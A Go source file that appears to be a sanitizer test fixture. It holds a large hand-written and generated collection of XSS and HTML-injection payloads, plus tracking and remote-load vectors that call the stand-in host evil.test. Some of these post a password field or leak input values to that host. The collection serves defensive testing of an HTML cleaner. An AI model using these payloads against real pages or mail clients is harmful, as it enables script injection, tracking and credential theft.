// Package hostile is what a letter with bad intent may hold: ways to run, post or fake something in a page, and ways to tell its sender that it was read.
// It is our own collection, in one place: the tests of kit/html clean it, and the tests in the browser open it.
package hostile

import "strings"

// Payloads are ways to make a page run something, post something or look like another: our own collection.
func Payloads() []string {
	list := strings.Split(strings.TrimSpace(handwritten), "\n")
	for _, event := range strings.Fields("onload onerror onclick onmouseover onfocus onblur onanimationstart ontransitionend ontoggle onbegin onpointerenter onwheel onscroll oncopy onpaste oninput onchange onsubmit onhashchange onpageshow onbeforeprint oncontentvisibilityautostatechange onbeforetoggle onscrollend") {
		list = append(list, `<img src=x `+event+`=alert(1)>`, `<details open `+event+`="alert(1)">x</details>`, `<p/`+event+`=alert(1)/style=x>`)
	}
	for _, scheme := range []string{"javascript:alert(1)", "JaVaScRiPt:alert(1)", "java\tscript:alert(1)", "java&#10;script:alert(1)", "&#x6A;avascript:alert(1)", "&#0000106avascript:alert(1)", "\x01javascript:alert(1)", " javascript:alert(1)", "javascript&colon;alert(1)", "vbscript:msgbox(1)", "data:text/html,<script>alert(1)</script>", "data:text/html;base64,PHNjcmlwdD4=", "data:image/svg+xml,<svg onload=alert(1)>", "blob:https://x/1", "filesystem:http://x/", "view-source:x", "feed:javascript:alert(1)", "jar:http://x!/y", "livescript:x", "mocha:x", "//evil.test/x", `\\evil.test\x`, "file:///etc/passwd", "intent://x#Intent;end", "ms-word:ofe|u|http://x", "javascript://%0aalert(1)", "javascript\u00a0:alert(1)", "javascript:/*--></title></style>*/alert(1)"} {
		list = append(list, `<a href="`+scheme+`">x</a>`, `<img src="`+scheme+`">`, `<td background="`+scheme+`">x</td>`, `<p style="background:url(`+scheme+`)">x</p>`, `[x](`+scheme+`)`, `<`+scheme+`>`)
	}
	for _, tag := range strings.Fields("iframe frame frameset object embed applet form input button select textarea keygen isindex meta base link style script noscript template slot svg math video audio source track canvas dialog marquee bgsound layer ilayer xml xss portal fencedframe noembed noframes plaintext xmp listing title head param area map datalist output progress meter nextid image") {
		list = append(list, `<`+tag+` src=javascript:alert(1) href=javascript:alert(1) data=javascript:alert(1) action=javascript:alert(1) onload=alert(1) id=x name=y><img src=x onerror=alert(1)></`+tag+`>`)
	}
	return list
}

const handwritten = `<script>alert(1)</script>
<SCRIPT SRC=//evil.test/x.js></SCRIPT>
<scr<script>ipt>alert(1)</scr</script>ipt>
<<script>alert(1)//<</script>
<script/src=data:,alert(1)>
<script
<img src="x" onerror="alert(1)"
<img """><script>alert(1)</script>">
<img src=x:x onerror&#61;alert(1)>
<img/src="x"/onerror=alert(1)>
<img src=1 oNeRrOr=alert(1) alt="<script>">
<svg onload=alert(1)>
<svg><script>alert&#40;1)</script></svg>
<svg><style><img src=x onerror=alert(1)></style></svg>
<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">
<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>
<svg><animate xlink:href=#x attributeName=href values=javascript:alert(1) /><a id=x><text>x</text></a>
<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='1' onerror='alert(1)'/></svg>#x">
<svg><foreignObject><iframe srcdoc="<script>alert(1)</script>"></iframe></foreignObject></svg>
<svg><desc><table><svg><style><!--</style><img src onerror=alert(1)>--></style>
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">
<math><mi//xlink:href="data:x,<script>alert(1)</script>">
<math><annotation-xml encoding="text/html"><style><img src=x onerror=alert(1)></style></annotation-xml></math>
<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>
<math><mtext><mglyph><svg><mtext><textarea><path id="</textarea><img onerror=alert(1) src=1>">
<math href="javascript:alert(1)">x</math>
<noscript><p title="</noscript><img src=x onerror=alert(1)>">
<noembed><p title="</noembed><img src=x onerror=alert(1)>"></noembed>
<noframes><style></noframes><img src=x onerror=alert(1)></style></noframes>
<xmp><p title="</xmp><svg/onload=alert(1)>"></xmp>
<textarea><p title="</textarea><img src=x onerror=alert(1)>">
<title><p title="</title><img src=x onerror=alert(1)>">
<style><p title="</style><img src=x onerror=alert(1)>">
<template><p title="</template><img src=x onerror=alert(1)>">
<iframe><p title="</iframe><img src=x onerror=alert(1)>">
<plaintext><p title="</plaintext><img src=x onerror=alert(1)>">
<select><style></select><img src=x onerror=alert(1)></style>
<select><template><style><!--</style><a rel="--></style></template></select><img id=x src onerror=alert(1)>">
<!--><img src=x onerror=alert(1)>-->
<!---><img src=x onerror=alert(1)>
<!--!><img src=x onerror=alert(1)>
<!-- --!><img src=x onerror=alert(1)> -->
<!--[if IE]><script>alert(1)</script><![endif]-->
<![CDATA[<img src=x onerror=alert(1)>]]>
<?xml-stylesheet href="javascript:alert(1)"?><?php echo "<script>" ?>
<!DOCTYPE x [<!ENTITY e "<script>alert(1)</script>">]>&e;
<a href="x" title="&quot;&gt;&lt;script&gt;alert(1)&lt;/script&gt;">x</a>
<p title="&lt;/p&gt;&lt;img src=x onerror=alert(1)&gt;">x</p>
<img alt="` + "``" + `onerror=alert(1)">
<a href=https://x.test/"onmouseover="alert(1)>x</a>
<a href='https://x.test/"><script>alert(1)</script>'>x</a>
<a href="https://x.test/&quot;&gt;&lt;script&gt;alert(1)&lt;/script&gt;">x</a>
<a href="https://user:pass@x.test/%22%3E%3Cscript%3E">x</a>
<a target=_self href=https://x.test onclick=alert(1) ping=//evil.test download>x</a>
<a href="#x" id=location name=cookie class=admin>x</a>
<a href=https://a.test><a href=javascript:alert(1)>x</a></a>
<a href="https://a.test"><table><a href="javascript:alert(1)">x
<base href=javascript:alert(1)//><a href=x>x</a>
<base href="//evil.test/"><img src=a.png>
<meta http-equiv=refresh content="0;url=javascript:alert(1)">
<meta http-equiv="refresh" content="0;url=https://evil.test">
<meta http-equiv="Content-Security-Policy" content="default-src *">
<meta http-equiv="set-cookie" content="a=b">
<meta charset="utf-7">+ADw-script+AD4-alert(1)+ADw-/script+AD4-
<link rel=stylesheet href=//evil.test/x.css>
<link rel=import href=//evil.test/x.html>
<link rel=modulepreload href=//evil.test/x.js>
<form action=javascript:alert(1)><input type=submit>
<form id=x></form><button form=x formaction=javascript:alert(1)>x
<form action=//evil.test method=post><input name=password type=password autofocus></form>
<input onfocus=alert(1) autofocus>
<input type=image src=x onerror=alert(1) formaction=//evil.test>
<isindex type=image src=1 onerror=alert(1)>
<button popovertarget=x>x</button><div popover id=x onbeforetoggle=alert(1)>x</div>
<object data="data:text/html,<script>alert(1)</script>"></object>
<object type=text/x-scriptlet data=//evil.test></object>
<embed src="data:image/svg+xml;base64,PHN2Zz4=" type="image/svg+xml">
<applet code=x archive=//evil.test/x.jar>
<iframe src=javascript:alert(1)>
<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;">
<iframe/onload=alert(1)>
<frameset onload=alert(1)><frame src=javascript:alert(1)></frameset>
<body onload=alert(1) background=javascript:alert(1)>
<html onmouseover=alert(1) manifest=//evil.test>
<video onerror=alert(1)><source></video>
<video poster=javascript:alert(1)></video>
<audio src=x onerror=alert(1)>
<marquee onstart=alert(1)>x</marquee>
<table background=javascript:alert(1)><td>x
<table><td><style></table><img src=x onerror=alert(1)></style>
<table><tr><td></table><script>alert(1)</script>
<table><caption><svg><style><img src=x onerror=alert(1)>
<p style="background:url(javascript:alert(1))">x</p>
<p style="width:expression(alert(1))">x</p>
<p style="width:exp/**/ression(alert(1))">x</p>
<p style="wid\74h:\65xpression(alert(1))">x</p>
<p style="-moz-binding:url(//evil.test/x.xml#x)">x</p>
<p style="behavior:url(x.htc)">x</p>
<p style="position:fixed;top:0;left:0;width:100%;height:100%;z-index:9999">x</p>
<p style="position:absolute;inset:0">x</p>
<p style="margin-top:-9999px;margin-left:calc(0px - 100px)">x</p>
<p style="transform:scale(100);animation:x 1s;clip-path:url(#x)">x</p>
<p style="color:red;}</style><script>alert(1)</script>">x</p>
<p style="color:red&quot;&gt;&lt;script&gt;alert(1)&lt;/script&gt;">x</p>
<p style='font-family:"}*{background:url(//evil.test)}"'>x</p>
<p style="font-family:'a;color:red">x</p>
<p style="color:r\ed;background:\75rl(//evil.test)">x</p>
<p style="content:attr(title);background:var(--x,url(//evil.test))">x</p>
<p style="background:image-set('//evil.test/x' 1x)">x</p>
<p style="color:red;;;:;x:;:y;background:">x</p>
<p style="background:url('a'b')">x</p>
<p style="background:url(cid:a&quot;&#41;;position:fixed)">x</p>
<p style="list-style:url(//evil.test);cursor:url(//evil.test),auto">x</p>
<style>@import '//evil.test/x.css';</style>
<style>*{background:url(//evil.test)}input[value^=a]{background:url(//evil.test/a)}</style>
<style><!--</style><script>alert(1)</script>--></style>
<style>@keyframes x{}</style><xss style="animation-name:x" onanimationend=alert(1)>
<img src="cid:&quot;&gt;&lt;script&gt;alert(1)&lt;/script&gt;">
<img src="cid:x' onerror='alert(1)">
<img src="CID:../../admin">
<img src="cid:javascript:alert(1)">
<img srcset="javascript:alert(1) 1x, x 2x" onerror=alert(1)>
<img src=x usemap=#m><map name=m><area href=javascript:alert(1) shape=default></map>
<img lowsrc=javascript:alert(1) dynsrc=javascript:alert(1) longdesc=javascript:alert(1)>
<img src="data:image/png;base64,AAAA&quot; onerror=&quot;alert(1)">
<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">
<img data-remote="javascript:alert(1)" src=x>
<img src="https://x.test/&quot; onerror=&quot;alert(1)">
<image src=x onerror=alert(1)>
<details open ontoggle=alert(1)><summary onclick=alert(1)>x</summary></details>
<dialog open onclose=alert(1)><form method=dialog><button>x</button></form></dialog>
<div id=x tabindex=1 onfocus=alert(1) contenteditable autofocus accesskey=x>x</div>
<div is=x-y data-bind="html:alert(1)" hx-get=//evil.test hx-trigger=load ng-app v-html=x>{{constructor.constructor('alert(1)')()}}</div>
<div lang='"><script>alert(1)</script>' dir="javascript:alert(1)">x</div>
<font color="red;background:url(//evil.test)" face='"onload="alert(1)'>x</font>
<bgsound src=javascript:alert(1)><layer src=//evil.test></layer>
<xml id=x><i><b>&lt;img src=1 onerror=alert(1)&gt;</b></i></xml><span datasrc=#x datafld=b dataformatas=html></span>
<p><![endif]--><script>alert(1)</script>
<custom-element onclick=alert(1) style=behavior:url(x)>x</custom-element>
<a` + "\x00" + `href=javascript:alert(1)>x</a>
<scr` + "\x00" + `ipt>alert(1)</scr` + "\x00" + `ipt>
<img src=x onerror` + "\x0b" + `=alert(1)>
` + "\xff<script\xc0>alert(1)</script>" + `
%3Cscript%3Ealert(1)%3C/script%3E
+ADw-script+AD4-alert(1)
&lt;script&gt;alert(1)&lt;/script&gt;
&amp;lt;script&amp;gt;alert(1)
</p></div></td></table></body></html><script>alert(1)</script>
</template></svg></math><img src=x onerror=alert(1)>
<b><p><i></b></p></i><script>alert(1)</script>
<p><p><a><a><b><b><i><table><b><tr><i><td><a onclick=alert(1)>x
![x](javascript:alert(1))
![x](https://evil.test/p.gif "onerror=alert(1)")
[x](<javascript:alert(1)>)
[x]: javascript:alert(1) "x"
<javascript:alert(1)>
**<img src=x onerror=alert(1)>**`

// Phones are ways of a mail to tell its sender that it was opened.
func Phones() []string { return strings.Split(strings.TrimSpace(phoning), "\n") }

const phoning = `<img src=http://evil.test/1>
<img src=https://evil.test/1>
<img src=//evil.test/1>
<img src="\\evil.test\1">
<img src="/\evil.test/1">
<img src="http:evil.test/1">
<img src="ht&#10;tp://evil.test/1">
<img src=" http://evil.test/1">
<IMG SRC=HTTP://EVIL.TEST/1>
<img srcset="http://evil.test/1 1x, http://evil.test/2 2x">
<img src=cid:x srcset=//evil.test/1>
<img sizes=100vw srcset=//evil.test/1>
<img lowsrc=http://evil.test/1>
<img dynsrc=http://evil.test/1>
<img longdesc=http://evil.test/1>
<img src=x onerror="fetch('//evil.test')">
<img src=ftp://evil.test/1>
<img src=data:image/svg+xml,<svg><image/href='//evil.test'/></svg>>
<image src=http://evil.test/1>
<picture><source srcset=http://evil.test/1><img></picture>
<input type=image src=http://evil.test/1>
<video src=http://evil.test/1 autoplay></video>
<video poster=http://evil.test/1></video>
<video><source src=http://evil.test/1></video>
<video><track src=http://evil.test/1 default></video>
<audio src=http://evil.test/1 autoplay></audio>
<audio><source src=http://evil.test/1></audio>
<bgsound src=http://evil.test/1>
<embed src=http://evil.test/1>
<object data=http://evil.test/1></object>
<object><param name=movie value=http://evil.test/1></object>
<applet code=x codebase=http://evil.test/></applet>
<iframe src=http://evil.test/1></iframe>
<iframe srcdoc="<img src=http://evil.test/1>"></iframe>
<frameset><frame src=http://evil.test/1></frameset>
<body background=http://evil.test/1>
<table background=http://evil.test/1><tr background=//evil.test/2><td background=//evil.test/3>x
<link rel=stylesheet href=http://evil.test/1>
<link rel=icon href=http://evil.test/1>
<link rel="shortcut icon" href=http://evil.test/1>
<link rel=dns-prefetch href=//evil.test>
<link rel=preconnect href=//evil.test>
<link rel=prefetch href=//evil.test/1>
<link rel=prerender href=//evil.test/1>
<link rel=preload as=image href=//evil.test/1>
<link rel=modulepreload href=//evil.test/1>
<link rel=manifest href=//evil.test/1>
<meta http-equiv=refresh content="0;url=http://evil.test/1">
<meta http-equiv=x-dns-prefetch-control content=on><a href=http://evil.test>x</a>
<meta http-equiv=Link content="<//evil.test/1>;rel=prefetch">
<base href=http://evil.test/><img src=1>
<html manifest=http://evil.test/1>
<style>@import url(http://evil.test/1);</style>
<style>@import "http://evil.test/1";</style>
<style>body{background:url(http://evil.test/1)}</style>
<style>@font-face{font-family:x;src:url(http://evil.test/1)}*{font-family:x}</style>
<style>@namespace url(http://evil.test/1);@document url(//evil.test){}</style>
<p style="background:url(http://evil.test/1)">x</p>
<p style="background:url('http://evil.test/1') no-repeat red">x</p>
<p style="background-image:url(&quot;//evil.test/1&quot;)">x</p>
<p style="background:URL( http://evil.test/1 )">x</p>
<p style="background:u\72l(http://evil.test/1)">x</p>
<p style="background:url(http://evil.test/1),url(http://evil.test/2)">x</p>
<p style="background:image-set(url(//evil.test/1) 1x)">x</p>
<p style="background-image:-webkit-image-set('//evil.test/1' 1x)">x</p>
<p style="background:cross-fade(url(//evil.test/1),red)">x</p>
<p style="list-style-image:url(http://evil.test/1)">x</p>
<p style="list-style:url(http://evil.test/1)">x</p>
<p style="border-image:url(http://evil.test/1) 30">x</p>
<p style="cursor:url(http://evil.test/1),auto">x</p>
<p style="content:url(http://evil.test/1)">x</p>
<p style="mask:url(http://evil.test/1);-webkit-mask-image:url(//evil.test/2)">x</p>
<p style="filter:url(http://evil.test/1#x);clip-path:url(//evil.test/1#x);shape-outside:url(//evil.test/2)">x</p>
<p style="--x:url(http://evil.test/1);background:var(--x)">x</p>
<p style="background:/**/url/**/(http://evil.test/1)">x</p>
<p style="src:url(http://evil.test/1);@import '//evil.test'">x</p>
<svg><image href=http://evil.test/1 /></svg>
<svg><image xlink:href=http://evil.test/1 /></svg>
<svg><use href=http://evil.test/1#x /></svg>
<svg><feImage href=http://evil.test/1 /></svg>
<svg><style>@import url(//evil.test/1)</style></svg>
<svg><rect fill="url(http://evil.test/1#x)"/></svg>
<svg><script href=http://evil.test/1></script></svg>
<math><mglyph src=http://evil.test/1></math>
<a href=http://evil.test/1 ping=http://evil.test/2>x</a>
<blockquote cite=http://evil.test/1>x</blockquote><q cite=//evil.test>x</q><del cite=//evil.test>x</del>
<form action=http://evil.test/1><button autofocus onfocus=submit()>x</form>
<script src=http://evil.test/1></script>
<portal src=http://evil.test/1></portal><fencedframe src=//evil.test></fencedframe>
<?xml-stylesheet href="http://evil.test/1"?>
<!DOCTYPE html SYSTEM "http://evil.test/1">
<v:imagedata src=http://evil.test/1 /><v:fill src=//evil.test/2>
<div style="background-image:url(http://evil.test/1);"><div background=http://evil.test/2>x`
